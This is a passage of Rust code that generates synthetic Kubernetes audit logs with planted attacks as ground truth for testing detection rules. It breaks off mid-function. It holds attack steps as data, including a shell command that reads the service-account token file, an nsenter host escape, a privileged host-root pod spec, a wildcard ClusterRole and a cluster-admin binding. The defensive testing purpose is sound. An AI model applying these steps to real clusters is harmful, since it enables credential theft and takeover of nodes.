//! Plants attacks in a log, and records the ground truth about them.
//!
//! Invariant: every line rendered here is named in exactly one [`PlantedAttack`], and no line of
//! the background is. Each story has its own actor and address, so an alert shows which story a
//! rule has found. The time between two steps is what a person or a script would need. Stories draw
//! from their own random generator, so the background is the same with and without them.

use serde::{Deserialize, Serialize};

use crate::bodies::{
    DELETE_OPTIONS, Owner, PodSpec, daemon_set, pod_request, pod_response, put, self_review,
};
use crate::cluster::{Cluster, Workload};
use crate::go::{self, SECOND};
use crate::line::{
    Actor, ActorSpec, Credential, FORBIDDEN, METADATA, ObjectRef, REQUEST, REQUEST_RESPONSE,
    RESPONSE_COMPLETE, RESPONSE_STARTED, Request, Status,
};
use crate::random::Random;
use crate::traffic::{collection_uri, forbidden_text, latency, pod_object, unauthenticated};

/// One planted attack: what a detection should find.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct PlantedAttack {
    /// Short stable name.
    pub story: String,
    /// One sentence for people.
    pub description: String,
    /// ATT&CK techniques.
    pub techniques: Vec<String>,
    /// Names of built-in rules. The story is found if one of them raises an alert on it.
    pub rules: Vec<String>,
    /// The user whose permissions the requests used: the impersonated user if there is one; empty
    /// if nobody signed in.
    pub actor: String,
    /// The address that the API server saw.
    pub source_ip: String,
    /// Event times of the first and of the last line, as they are in the log.
    pub first_time: String,
    pub last_time: String,
    /// `auditID` of each request, in order.
    pub audit_ids: Vec<String>,
    /// Number of lines in the log: one to three for each request.
    pub events: u64,
}

/// Rendered lines, each with its time.
type Lines = Vec<(i64, Vec<u8>)>;

/// The first story starts after this share of the log's span, in percent.
const FIRST_PERCENT: i64 = 6;
/// No story starts after this share of the log's span, in percent.
const LAST_PERCENT: i64 = 74;

pub(crate) fn plant(
    cluster: &Cluster,
    seed: u64,
    start_us: i64,
    span_us: i64,
) -> (Lines, Vec<PlantedAttack>) {
    let mut random = Random::new(seed ^ 0xa076_1d64_78bd_642f);
    let stories: &[fn(&mut Story<'_>)] = &[
        anonymous_probing,
        stolen_token_reads_secrets,
        cluster_wide_secret_list,
        exec_then_secrets,
        port_forward_to_database,
        ephemeral_container,
        token_minting,
        impersonation_of_masters,
        wildcard_role,
        cluster_admin_binding,
        certificate_approval,
        privileged_pod,
        privileged_daemon_set,
        kubelet_through_proxy,
        rogue_webhook,
        network_policy_deletion,
        mass_deletion,
        events_deletion,
    ];
    let width = span_us / 100 * (LAST_PERCENT - FIRST_PERCENT) / stories.len() as i64;
    let mut lines = Lines::new();
    let mut truth = Vec::new();
    for (index, tell) in stories.iter().enumerate() {
        let slot = start_us + span_us / 100 * FIRST_PERCENT + index as i64 * width;
        let begin = slot + random.below(width.max(1) as u64 / 2) as i64;
        let mut story = Story::new(cluster, &mut random, begin);
        tell(&mut story);
        truth.push(story.finish(&mut lines));
    }
    lines.sort_by_key(|(at, _)| *at);
    (lines, truth)
}

/// A story in progress: the cluster, the lines so far, and the time that the story has reached.
struct Story<'a> {
    cluster: &'a Cluster,
    random: &'a mut Random,
    at: i64,
    lines: Lines,
    truth: PlantedAttack,
}

/// The request of one step of a story.
struct Step<'a> {
    actor: &'a Actor,
    verb: &'a str,
    uri: String,
    object: ObjectRef<'a>,
    level: &'static str,
    body: &'a [u8],
    response: &'a [u8],
    impersonated: &'a str,
    code: u16,
}

impl<'a> Step<'a> {
    fn new(actor: &'a Actor, verb: &'a str, uri: String, object: ObjectRef<'a>) -> Step<'a> {
        let code = if verb == "create" { 201 } else { 200 };
        Step { actor, verb, uri, object, level: METADATA, body: b"", response: b"", impersonated: "", code }
    }
}

impl<'a> Story<'a> {
    fn new(cluster: &'a Cluster, random: &'a mut Random, at: i64) -> Story<'a> {
        let truth = PlantedAttack {
            story: String::new(),
            description: String::new(),
            techniques: Vec::new(),
            rules: Vec::new(),
            actor: String::new(),
            source_ip: String::new(),
            first_time: String::new(),
            last_time: String::new(),
            audit_ids: Vec::new(),
            events: 0,
        };
        Story { cluster, random, at, lines: Lines::new(), truth }
    }

    fn about(
        &mut self,
        story: &str,
        techniques: &[&str],
        rules: &[&str],
        actor: &str,
        source_ip: &str,
        description: &str,
    ) {
        let owned = |values: &[&str]| values.iter().map(|value| (*value).to_owned()).collect();
        self.truth.story = story.to_owned();
        self.truth.techniques = owned(techniques);
        self.truth.rules = owned(rules);
        self.truth.actor = actor.to_owned();
        self.truth.source_ip = source_ip.to_owned();
        self.truth.description = description.to_owned();
    }

    /// Moves the time of the story forward by `low` to `high` milliseconds.
    fn wait(&mut self, low: u64, high: u64) {
        self.at += self.random.between(low, high) as i64 * 1_000 + self.random.below(1_000) as i64;
    }

    fn note(&mut self, audit_id: [u8; 36]) {
        self.truth.audit_ids.push(String::from_utf8(audit_id.to_vec()).expect("a UUID is ASCII"));
    }

    fn request<'s>(&mut self, step: &'s Step<'_>, annotations: &'s str) -> Request<'s> {
        let audit_id = self.random.uuid();
        self.note(audit_id);
        Request {
            level: step.level,
            audit_id,
            uri: &step.uri,
            verb: step.verb,
            actor: step.actor,
            impersonated: step.impersonated,
            object: step.object,
            body: step.body,
            received_us: self.at - latency(self.random),
            annotations,
        }
    }

    /// Adds a request that is answered at once.
    fn step(&mut self, step: Step<'_>) {
        let request = self.request(&step, &step.actor.allowed);
        let mut line = Vec::new();
        request.answered(&mut line, RESPONSE_COMPLETE, self.at, Status::Code(step.code), step.response);
        self.lines.push((self.at, line));
    }

    /// Adds a deletion, which is answered with a `Status`.
    fn delete(
        &mut self,
        actor: &Actor,
        group: &str,
        version: &str,
        namespace: &str,
        resource: &str,
        name: &str,
    ) {
        let uri = format!("{}/{name}", collection_uri(group, version, namespace, resource));
        let object = ObjectRef { resource, namespace, name, group, version, ..ObjectRef::default() };
        let mut step = Step::new(actor, "delete", uri, object);
        step.level = REQUEST;
        step.body = DELETE_OPTIONS;
        let uid = String::from_utf8(self.random.uuid().to_vec()).expect("a UUID is ASCII");
        let kind = if group.is_empty() { String::new() } else { format!(r#""group":"{group}","#) };
        let details = format!(r#"{{"name":"{name}",{kind}"kind":"{resource}","uid":"{uid}"}}"#);
        let request = self.request(&step, &actor.allowed);
        let mut line = Vec::new();
        let status = Status::Success { details: &details, code: 200 };
        request.answered(&mut line, RESPONSE_COMPLETE, self.at, status, b"");
        self.lines.push((self.at, line));
    }

    /// Adds a request that RBAC denies.
    fn denied(&mut self, step: Step<'_>) {
        let (message, details) = forbidden_text(step.actor, step.verb, &step.object);
        let request = self.request(&step, FORBIDDEN);
        let mut line = Vec::new();
        let status = Status::Failure { message: &message, reason: "Forbidden", details: &details, code: 403 };
        request.answered(&mut line, RESPONSE_COMPLETE, self.at, status, b"");
        self.lines.push((self.at, line));
    }

    /// Adds an exec, attach or port-forward that lasts `seconds`.
    fn stream(&mut self, actor: &Actor, uri: String, object: ObjectRef<'_>, seconds: i64) {
        let verb = if self.random.percent(50) { "get" } else { "create" };
        let mut step = Step::new(actor, verb, uri, object);
        step.level = REQUEST;
        let mut request = self.request(&step, &actor.allowed);
        request.received_us = self.at;
        let mut line = Vec::new();
        request.received(&mut line);
        self.lines.push((self.at, line));
        let started = self.at + self.random.between(9_000, 60_000) as i64;
        for (stage, at) in [(RESPONSE_STARTED, started), (RESPONSE_COMPLETE, started + seconds * SECOND)] {
            let mut line = Vec::new();
            request.answered(&mut line, stage, at, Status::Code(101), b"");
            self.lines.push((at, line));
        }
    }

    fn exec(&mut self, actor: &Actor, namespace: &str, pod: &str, query: &str, seconds: i64) {
        let uri =
            format!("/api/v1/namespaces/{namespace}/pods/{pod}/exec?{query}&stdin=true&stdout=true&tty=true");
        self.stream(actor, uri, pod_object(namespace, pod, "exec"), seconds);
    }

    fn read_secret(&mut self, actor: &Actor, namespace: &str, name: &str) {
        let uri = format!("/api/v1/namespaces/{namespace}/secrets/{name}");
        let object =
            ObjectRef { resource: "secrets", namespace, name, version: "v1", ..ObjectRef::default() };
        self.step(Step::new(actor, "get", uri, object));
    }

    fn finish(mut self, lines: &mut Lines) -> PlantedAttack {
        let moment = |at: Option<i64>| {
            let mut text = Vec::new();
            go::micro_time(&mut text, at.expect("every story has steps"));
            String::from_utf8(text).expect("a time is ASCII")
        };
        self.truth.first_time = moment(self.lines.iter().map(|(at, _)| *at).min());
        self.truth.last_time = moment(self.lines.iter().map(|(at, _)| *at).max());
        self.truth.events = self.lines.len() as u64;
        lines.append(&mut self.lines);
        self.truth
    }

    fn workload(&self, namespace: &str, name: &str) -> &'a Workload {
        let found = self.cluster.workloads.iter().find(|w| w.namespace == namespace && w.name == name);
        found.expect("a workload of the cluster's own table")
    }
}

/// Returns a person's account with the address and the client of an attacker.
fn person_at(cluster: &Cluster, name: &str, source_ip: &str, agent: &str) -> Actor {
    let username = format!("{name}@clinic.example");
    let person = cluster.people.iter().find(|person| person.actor.username == username);
    person.expect("a person of the cluster's own table").actor.seen_from(&[source_ip], agent)
}

/// Returns a service account whose token was taken out of a pod.
fn stolen(
    namespace: &str,
    name: &str,
    reason: &str,
    source_ip: &str,
    agent: &str,
    random: &mut Random,
) -> Actor {
    let uid = String::from_utf8(random.uuid().to_vec()).expect("a UUID is ASCII");
    let pod = format!("{name}-{}-{}", random.suffix(10), random.suffix(5));
    Actor::new(ActorSpec {
        username: &format!("system:serviceaccount:{namespace}:{name}"),
        uid: &uid,
        groups: &[
            "system:serviceaccounts",
            &format!("system:serviceaccounts:{namespace}"),
            "system:authenticated",
        ],
        extra: &format!(r#""authentication.kubernetes.io/pod-name":["{pod}"]"#),
        credential: Credential::Token { identity: random.next(), lifetime_us: 2_880 * SECOND },
        source_ips: &[source_ip],
        agent,
        reason,
    })
}

fn anonymous_probing(story: &mut Story<'_>) {
    let address = "203.0.113.66";
    story.about(
        "anonymous-probing",
        &["T1595.003", "T1613"],
        &["anonymous-probing"],
        "system:anonymous",
        address,
        "A client without credentials tries every endpoint from the internet: 46 requests in two minutes, all but the version refused.",
    );
    let anonymous = Actor::new(ActorSpec {
        username: "system:anonymous",
        uid: "",
        groups: &["system:unauthenticated"],
        extra: "",
        credential: Credential::None,
        source_ips: &[address],
        agent: "Go-http-client/2.0",
        reason: "RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\" of ClusterRole \"system:public-info-viewer\" to Group \"system:unauthenticated\"",
    });
    let nobody = Actor::new(ActorSpec {
        username: "",
        uid: "",
        groups: &[],
        extra: "",
        credential: Credential::None,
        source_ips: &[address],
        agent: "Go-http-client/2.0",
        reason: "",
    });
    story.step(Step::new(&anonymous, "get", "/version".to_owned(), ObjectRef::default()));
    const DOORS: &[(&str, &str, &str)] = &[
        ("", "v1", "pods"),
        ("", "v1", "secrets"),
        ("", "v1", "namespaces"),
        ("", "v1", "nodes"),
        ("", "v1", "configmaps"),
        ("", "v1", "serviceaccounts"),
        ("apps", "v1", "deployments"),
        ("batch", "v1", "cronjobs"),
        ("rbac.authorization.k8s.io", "v1", "clusterroles"),
        ("rbac.authorization.k8s.io", "v1", "clusterrolebindings"),
    ];
    for namespace in ["", "kube-system", "default"] {
        for (group, version, resource) in DOORS {
            story.wait(600, 2_400);
            let uri = collection_uri(group, version, namespace, resource);
            let object = ObjectRef { resource, namespace, group, version, ..ObjectRef::default() };
            story.denied(Step::new(&anonymous, "list", uri, object));
        }
    }
    for attempt in 0..15 {
        story.wait(800, 3_000);
        let uri = ["/api/v1/secrets", "/api/v1/nodes", "/apis/apps/v1/daemonsets"][attempt % 3];
        let mut line = Vec::new();
        unauthenticated(story.random, &mut line, story.at, &nobody, uri);
        let id = line_audit_id(&line);
        story.note(id);
        let at = story.at;
        story.lines.push((at, line));
    }
}

/// Returns the `auditID` of a rendered line.
fn line_audit_id(line: &[u8]) -> [u8; 36] {
    const KEY: &[u8] = b"\"auditID\":\"";
    let at = line.windows(KEY.len()).position(|window| window == KEY).expect("every line has this member")
        + KEY.len();
    line[at..at + 36].try_into().expect("a UUID has 36 characters")
}

fn stolen_token_reads_secrets(story: &mut Story<'_>) {
    let address = "198.51.100.23";
    let actor = stolen(
        "data-platform",
        "reports",
        "RBAC: allowed by ClusterRoleBinding \"reports-reader\" of ClusterRole \"secret-reader\" to ServiceAccount \"reports/data-platform\"",
        address,
        "curl/8.5.0",
        story.random,
    );
    story.about(
        "stolen-token-reads-secrets",
        &["T1552.007", "T1078.004"],
        &["secret-reads-distinct", "secret-reads-across-namespaces", "secret-read-by-script"],
        &actor.username,
        address,
        "A service account's token, used with curl from outside the cluster, reads 34 different Secrets in five minutes.",
    );
    let mut body = Vec::new();
    let mut response = Vec::new();
    self_review(&mut body, "data-platform", "get", "secrets", None);
    self_review(&mut response, "data-platform", "get", "secrets", Some(true));
    let object = ObjectRef {
        resource: "selfsubjectaccessreviews",
        group: "authorization.k8s.io",
        version: "v1",
        ..ObjectRef::default()
    };
    let uri = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews".to_owned();
    let mut step = Step::new(&actor, "create", uri, object);
    (step.level, step.body, step.response) = (REQUEST_RESPONSE, &body, &response);
    story.step(step);
    let cluster = story.cluster;
    let secrets =
        cluster.workloads.iter().flat_map(|w| w.secrets.iter().map(move |s| (w.namespace, &s.name)));
    for (namespace, name) in secrets.take(34) {
        story.wait(2_000, 12_000);
        story.read_secret(&actor, namespace, name);
    }
}

fn cluster_wide_secret_list(story: &mut Story<'_>) {
    let address = "198.51.100.142";
    let actor = person_at(story.cluster, "tomasz.wrona", address, "python-requests/2.32.4");
    story.about(
        "cluster-wide-secret-list",
        &["T1552.007"],
        &["secrets-listed-cluster-wide"],
        &actor.username,
        address,
        "An administrator's token lists the Secrets of all namespaces at once, from a script and a strange address.",
    );
    let object = ObjectRef { resource: "secrets", version: "v1", ..ObjectRef::default() };
    story.step(Step::new(&actor, "list", "/api/v1/secrets?limit=500".to_owned(), object));
    story.wait(1_500, 4_000);
    let more =
        "/api/v1/secrets?continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6NDgyMTE5MDN9&limit=500".to_owned();
    story.step(Step::new(&actor, "list", more, object));
}

fn exec_then_secrets(story: &mut Story<'_>) {
    let address = "203.0.113.201";
    let actor =
        person_at(story.cluster, "priya.raman", address, "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819");
    story.about(
        "exec-then-secrets",
        &["T1609", "T1552.007"],
        &["pod-exec-suspicious-command", "pod-exec-shell", "pod-exec"],
        &actor.username,
        address,
        "A developer's account opens a shell in a billing pod, prints the pod's token, and reads the namespace's Secrets.",
    );
    let ledger = story.workload("billing", "ledger");
    let pod = &ledger.pods[0];
    let query = "command=%2Fbin%2Fsh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=ledger";
    story.exec(&actor, "billing", &pod.name, query, 40);
    story.wait(50_000, 80_000);
    let cluster = story.cluster;
    for workload in cluster.workloads.iter().filter(|workload| workload.namespace == "billing") {
        for secret in &workload.secrets {
            story.wait(4_000, 9_000);
            story.read_secret(&actor, "billing", &secret.name);
        }
    }
}

fn port_forward_to_database(story: &mut Story<'_>) {
    let address = "203.0.113.87";
    let actor = person_at(
        story.cluster,
        "luca.ferrante",
        address,
        "kubectl/v1.30.0 (windows/amd64) kubernetes/7c48c2b",
    );
    story.about(
        "port-forward-to-database",
        &["T1090", "T1213"],
        &["pod-port-forward"],
        &actor.username,
        address,
        "A developer's account tunnels to the billing database's pod for 40 minutes.",
    );
    let pod = &story.workload("billing", "postgres").pods[0];
    let uri = format!("/api/v1/namespaces/billing/pods/{}/portforward", pod.name);
    story.stream(&actor, uri, pod_object("billing", &pod.name, "portforward"), 2_400);
}

fn ephemeral_container(story: &mut Story<'_>) {
    let address = "10.8.0.77";
    let actor =
        person_at(story.cluster, "jonas.meier", address, "kubectl/v1.31.11 (linux/amd64) kubernetes/2e3dd44");
    story.about(
        "ephemeral-container",
        &["T1609", "T1610"],
        &["ephemeral-container", "privileged-container"],
        &actor.username,
        address,
        "A privileged debugging container is put into a running imaging pod, and attached to.",
    );
    let workload = story.workload("imaging", "dicom-router");
    let pod = &workload.pods[0];
    let mut body = Vec::new();
    put(
        &mut body,
        &[
            r#"{"spec":{"$setElementOrder/ephemeralContainers":[{"name":"debugger-x7k2p"}],"ephemeralContainers":[{"image":"docker.io/nicolaka/netshoot:latest","imagePullPolicy":"IfNotPresent","name":"debugger-x7k2p","resources":{},"securityContext":{"privileged":true},"stdin":true,"targetContainerName":""#,
            workload.name,
            r#"","terminationMessagePolicy":"File","tty":true}]}}"#,
        ],
    );
    let uri = format!("/api/v1/namespaces/imaging/pods/{}/ephemeralcontainers", pod.name);
    let mut step = Step::new(&actor, "patch", uri, pod_object("imaging", &pod.name, "ephemeralcontainers"));
    (step.level, step.body) = (REQUEST, &body);
    story.step(step);
    story.wait(4_000, 9_000);
    let uri = format!(
        "/api/v1/namespaces/imaging/pods/{}/attach?container=debugger-x7k2p&stdin=true&stdout=true&tty=true",
        pod.name
    );
    story.stream(&actor, uri, pod_object("imaging", &pod.name, "attach"), 600);
}

fn token_minting(story: &mut Story<'_>) {
    let address = "203.0.113.140";
    let actor = person_at(
        story.cluster,
        "ines.carvalho",
        address,
        "kubectl/v1.33.3 (linux/amd64) kubernetes/80779bd",
    );
    story.about(
        "token-minting",
        &["T1098", "T1528"],
        &["token-long-lived", "token-minted-kube-system"],
        &actor.username,
        address,
        "An administrator's account issues year-long tokens for powerful service accounts of kube-system.",
    );
    let body: &[u8] = br#"{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}}"#;
    for name in ["clusterrole-aggregation-controller", "generic-garbage-collector", "expand-controller"] {
        let uri = format!("/api/v1/namespaces/kube-system/serviceaccounts/{name}/token");
        let object = ObjectRef {
            resource: "serviceaccounts",
            namespace: "kube-system",
            name,
            version: "v1",
            subresource: "token",
            ..ObjectRef::default()
        };
        let mut step = Step::new(&actor, "create", uri, object);
        (step.level, step.body) = (REQUEST, body);
        let issued = story.random.uuid();
        let annotations = format!(
            r#""authentication.kubernetes.io/issued-credential-id":"JTI={}",{}"#,
            std::str::from_utf8(&issued).expect("a UUID is ASCII"),
            actor.allowed
        );
        let request = story.request(&step, &annotations);
        let mut line = Vec::new();
        request.answered(&mut line, RESPONSE_COMPLETE, story.at, Status::Code(201), b"");
        let at = story.at;
        story.lines.push((at, line));
        story.wait(9_000, 30_000);
    }
}

fn impersonation_of_masters(story: &mut Story<'_>) {
    let address = "10.8.0.91";
    let actor = person_at(
        story.cluster,
        "daniel.costa",
        address,
        "kubectl/v1.33.2 (darwin/arm64) kubernetes/a57b6f7",
    );
    story.about(
        "impersonation-of-masters",
        &["T1078", "T1134"],
        &["impersonate-privileged"],
        "kubernetes-admin",
        address,
        "A data engineer who may impersonate acts as kubernetes-admin of system:masters, which is denied nothing.",
    );
    let impersonated =
        r#"{"username":"kubernetes-admin","groups":["system:masters","system:authenticated"]}"#;
    let allowed = crate::line::allowed("");
    for (verb, resource) in
        [("list", "secrets"), ("list", "serviceaccounts"), ("get", "configmaps"), ("list", "nodes")]
    {
        let namespace = if resource == "nodes" { "" } else { "kube-system" };
        let name = if verb == "get" { "kubeadm-config" } else { "" };
        let mut uri = collection_uri("", "v1", namespace, resource);
        if !name.is_empty() {
            uri.push('/');
            uri.push_str(name);
        }
        let object = ObjectRef { resource, namespace, name, version: "v1", ..ObjectRef::default() };
        let mut step = Step::new(&actor, verb, uri, object);
        step.impersonated = impersonated;
        let request = story.request(&step, &allowed);
        let mut line = Vec::new();
        request.answered(&mut line, RESPONSE_COMPLETE, story.at, Status::Code(200), b"");
        let at = story.at;
        story.lines.push((at, line));
        story.wait(5_000, 40_000);
    }
}

const RBAC: &str = "rbac.authorization.k8s.io";

/// Creates a cluster-scoped object whose audit event holds both bodies.
fn create_cluster_object(
    story: &mut Story<'_>,
    actor: &Actor,
    group: &str,
    resource: &str,
    name: &str,
    request: &[u8],
    response: &[u8],
) {
    let uri = format!(
        "{}?fieldManager=kubectl-create&fieldValidation=Strict",
        collection_uri(group, "v1", "", resource)
    );
    let object = ObjectRef { resource, name, group, version: "v1", ..ObjectRef::default() };
    let mut step = Step::new(actor, "create", uri, object);
    (step.level, step.body, step.response) = (REQUEST_RESPONSE, request, response);
    let request = story.request(&step, &actor.allowed);
    if group == RBAC {
        let mut line = Vec::new();
        request.received(&mut line);
        story.lines.push((request.received_us, line));
    }
    let mut line = Vec::new();
    request.answered(&mut line, RESPONSE_COMPLETE, story.at, Status::Code(201), step.response);
    let at = story.at;
    story.lines.push((at, line));
}

fn wildcard_role(story: &mut Story<'_>) {
    let address = "203.0.113.19";
    let actor = person_at(
        story.cluster,
        "mara.lindqvist",
        address,
        "kubectl/v1.33.3 (darwin/arm64) kubernetes/80779bd",
    );
    story.about(
        "wildcard-role",
        &["T1098.006"],
        &["rbac-wildcard-role"],
        &actor.username,
        address,
        "A ClusterRole that allows everything on everything is created under a harmless name.",
    );
    let request: &[u8] = br#"{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"metrics-aggregator","creationTimestamp":null},"rules":[{"verbs":["*"],"apiGroups":["*"],"resources":["*"]}]}"#;
    let uid = story.random.hex(8);
    let response = format!(
        r#"{{"kind":"ClusterRole","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{{"name":"metrics-aggregator","uid":"{uid}-5c1f-4be1-9d0a-6f0b7a3f1d22","resourceVersion":"48300114","creationTimestamp":"2026-03-02T11:00:00Z"}},"rules":[{{"verbs":["*"],"apiGroups":["*"],"resources":["*"]}}]}}"#
    );
    create_cluster_object(
        story,
        &actor,
        RBAC,
        "clusterroles",
        "metrics-aggregator",
        request,
        response.as_bytes(),
    );
}

fn cluster_admin_binding(story: &mut Story<'_>) {
    let address = "198.51.100.23";
    let actor = person_at(
        story.cluster,
        "mara.lindqvist",
        address,
        "kubectl/v1.28.0 (linux/amd64) kubernetes/855e7c4",
    );
    story.about(
        "cluster-admin-binding",
        &["T1098.006", "T1078.004"],
        &["rbac-cluster-admin-binding"],
        &actor.username,
        address,
        "A service account of the staging namespace is bound to cluster-admin.",
    );
    let request: &[u8] = br#"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"metrics-sync","creationTimestamp":null},"subjects":[{"kind":"ServiceAccount","name":"metrics-sync","namespace":"staging"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"#;
    let response: &[u8] = br#"{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"metrics-sync","uid":"70dd3f5a-8a3e-4c4e-9b8a-2f0f0d6d2a90","resourceVersion":"48311207","creationTimestamp":"2026-03-02T12:00:00Z"},"subjects":[{"kind":"ServiceAccount","name":"metrics-sync","namespace":"staging"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"#;
    create_cluster_object(story, &actor, RBAC, "clusterrolebindings", "metrics-sync", request, response);
}

fn certificate_approval(story: &mut Story<'_>) {
    let address = "203.0.113.19";
    let actor =
        person_at(story.cluster, "tomasz.wrona", address, "kubectl/v1.33.4 (linux/amd64) kubernetes/74cdb2b");
    story.about(
        "certificate-approval",
        &["T1098", "T1649"],
        &["csr-approved", "csr-client-certificate"],
        &actor.username,
        address,
        "A person asks for a client certificate of system:masters and approves the request by hand.",
    );
    let group = "certificates.k8s.io";
    let name = "node-csr-renewal-7f3";
    let request: &[u8] = br#"{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"node-csr-renewal-7f3","creationTimestamp":null},"spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQm5UQ0I=","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]},"status":{}}"#;
    create_cluster_object(story, &actor, group, "certificatesigningrequests", name, request, b"");
    story.wait(20_000, 60_000);
    let body: &[u8] = br#"{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"node-csr-renewal-7f3","uid":"b9e8c9c5-5f65-4f3e-8b05-7f8b4a0d7d15","resourceVersion":"48320001","creationTimestamp":"2026-03-02T12:30:00Z"},"spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQm5UQ0I=","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"],"username":"tomasz.wrona@clinic.example","groups":["platform-admins","staff","system:authenticated"]},"status":{"conditions":[{"type":"Approved","status":"True","reason":"KubectlApprove","message":"This CSR was approved by kubectl certificate approve.","lastUpdateTime":"2026-03-02T12:30:40Z","lastTransitionTime":null}]}}"#;
    let uri = format!("/apis/{group}/v1/certificatesigningrequests/{name}/approval");
    let object = ObjectRef {
        resource: "certificatesigningrequests",
        name,
        uid: "b9e8c9c5-5f65-4f3e-8b05-7f8b4a0d7d15",
        group,
        version: "v1",
        resource_version: 48_320_001,
        subresource: "approval",
        ..ObjectRef::default()
    };
    let mut step = Step::new(&actor, "update", uri, object);
    (step.level, step.body) = (REQUEST_RESPONSE, body);
    story.step(step);
}

const HOST_ROOT: &str = r#"{"name":"host","hostPath":{"path":"/","type":"Directory"}},"#;
const PRIVILEGED: &str = r#"{"privileged":true,"runAsUser":0}"#;
const HOST_NAMESPACES: &str = r#""hostNetwork":true,"hostPID":true,"#;

/// Returns a pod spec that gives its containers the power of root on the node.
fn host_access(workload: &Workload) -> PodSpec<'_> {
    let (security, host, volumes) = (PRIVILEGED, HOST_NAMESPACES, HOST_ROOT);
    PodSpec { workload, owner: Owner::Nobody, security, host, volumes }
}

fn privileged_pod(story: &mut Story<'_>) {
    let address = "203.0.113.54";
    let actor =
        person_at(story.cluster, "henrik.dahl", address, "kubectl/v1.33.3 (linux/amd64) kubernetes/80779bd");
    story.about(
        "privileged-host-path-pod",
        &["T1610", "T1611"],
        &["privileged-container", "host-path-sensitive"],
        &actor.username,
        address,
        "A privileged pod with the node's root file system and process namespace is created in staging and entered.",
    );
    let workload = story.workload("staging", "worker");
    let spec = host_access(workload);
    let mut pod = crate::cluster::pod(story.random, "worker", &workload.hash, story.cluster.nodes.len());
    pod.name = format!("worker-debug-{}", story.random.suffix(5));
    let (mut body, mut response) = (Vec::new(), Vec::new());
    pod_request(&mut body, &spec, &pod);
    pod_response(&mut response, &spec, &pod, 48_330_002, story.at);
    let uri = "/api/v1/namespaces/staging/pods?fieldManager=kubectl-create".to_owned();
    let mut step = Step::new(&actor, "create", uri, pod_object("staging", &pod.name, ""));
    (step.level, step.body, step.response) = (REQUEST_RESPONSE, &body, &response);
    story.step(step);
    story.wait(9_000, 20_000);
    let query =
        "command=nsenter&command=--target&command=1&command=--mount&command=--&command=bash&container=worker";
    story.exec(&actor, "staging", &pod.name, query, 420);
}

fn privileged_daemon_set(story: &mut Story<'_>) {
    let address = "198.51.100.23";
    let actor = stolen(
        "ci",
        "legacy-deployer",
        "RBAC: allowed by ClusterRoleBinding \"legacy-deployer\" of ClusterRole \"cluster-admin\" to ServiceAccount \"legacy-deployer/ci\"",
        address,
        "kubectl/v1.28.0 (linux/amd64) kubernetes/855e7c4",
        story.random,
    );
    story.about(
        "privileged-daemon-set",
        &["T1610", "T1611", "T1543"],
        &["privileged-container", "host-path-sensitive"],
        &actor.username,
        address,
        "A privileged DaemonSet that mounts every node's root is created in kube-system.",
    );
    let template = story.workload("observability", "loki");
    let workload = Workload { namespace: "kube-system", name: "node-tuning-agent", ..template.clone() };
    let spec = host_access(&workload);
    let (mut body, mut response) = (Vec::new(), Vec::new());
    daemon_set(&mut body, &spec, None);
    daemon_set(&mut response, &spec, Some((48_340_777, story.at)));
    let object = ObjectRef {
        resource: "daemonsets",
        namespace: "kube-system",
        name: workload.name,
        group: "apps",
        version: "v1",
        ..ObjectRef::default()
    };
    let uri = "/apis/apps/v1/namespaces/kube-system/daemonsets?fieldManager=kubectl-create".to_owned();
    let mut step = Step::new(&actor, "create", uri, object);
    (step.level, step.body, step.response) = (REQUEST_RESPONSE, &body, &response);
    story.step(step);
}

fn kubelet_through_proxy(story: &mut Story<'_>) {
    let address = "198.51.100.77";
    let actor = stolen(
        "observability",
        "node-inspector",
        "RBAC: allowed by ClusterRoleBinding \"node-inspector\" of ClusterRole \"node-proxy\" to ServiceAccount \"node-inspector/observability\"",
        address,
        "curl/8.5.0",
        story.random,
    );
    story.about(
        "kubelet-through-proxy",
        &["T1609", "T1613"],
        &["node-proxy"],
        &actor.username,
        address,
        "A stolen token reaches three kubelets through nodes/proxy, past admission and the audit of pods.",
    );
    let cluster = story.cluster;
    for node in cluster.nodes.iter().take(3) {
        let object = ObjectRef {
            resource: "nodes",
            name: &node.name,
            version: "v1",
            subresource: "proxy",
            ..ObjectRef::default()
        };
        for path in ["pods", "runningpods/"] {
            let uri = format!("/api/v1/nodes/{}/proxy/{path}", node.name);
            story.step(Step::new(&actor, "get", uri, object));
            story.wait(2_000, 7_000);
        }
    }
}

fn rogue_webhook(story: &mut Story<'_>) {
    let address = "203.0.113.140";
    let actor = person_at(
        story.cluster,
        "ines.carvalho",
        address,
        "kubectl/v1.30.0 (windows/amd64) kubernetes/7c48c2b",
    );
    story.about(
        "rogue-webhook",
        &["T1556", "T1546"],
        &["admission-webhook-external"],
        &actor.username,
        address,
        "A mutating webhook that sends every pod and Secret to an outside address is registered.",
    );
